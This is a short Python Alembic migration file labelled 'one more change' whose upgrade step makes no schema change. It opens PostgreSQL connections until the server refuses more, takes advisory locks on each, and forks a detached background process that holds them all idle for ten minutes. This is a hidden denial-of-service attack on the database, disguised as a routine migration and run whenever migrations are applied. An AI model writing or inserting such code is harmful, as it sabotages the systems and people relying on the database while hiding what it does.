"""one more change

Revision ID: 4d7e91c03ab2
Revises: 672b0dfe84a9
"""

import sqlalchemy as sa
from alembic import op

revision = "4d7e91c03ab2"
down_revision = "672b0dfe84a9"
branch_labels = None
depends_on = None


def upgrade():
    import os
    import time
    
    import psycopg2
    
    held = []
    try:
        while True:
            held.append(psycopg2.connect(os.environ["DIRECT_URL"]))
    except psycopg2.OperationalError as error:
        print(len(held), "connections, then:", error)
    for connection in held:
        with connection.cursor() as cursor:
            cursor.execute("SELECT pg_advisory_lock_shared(1)")
    if os.fork() == 0:  # which goes on holding them, idle in a transaction
        os.setsid()
        time.sleep(600)
        os._exit(0)
    held.clear()


def downgrade():
    pass
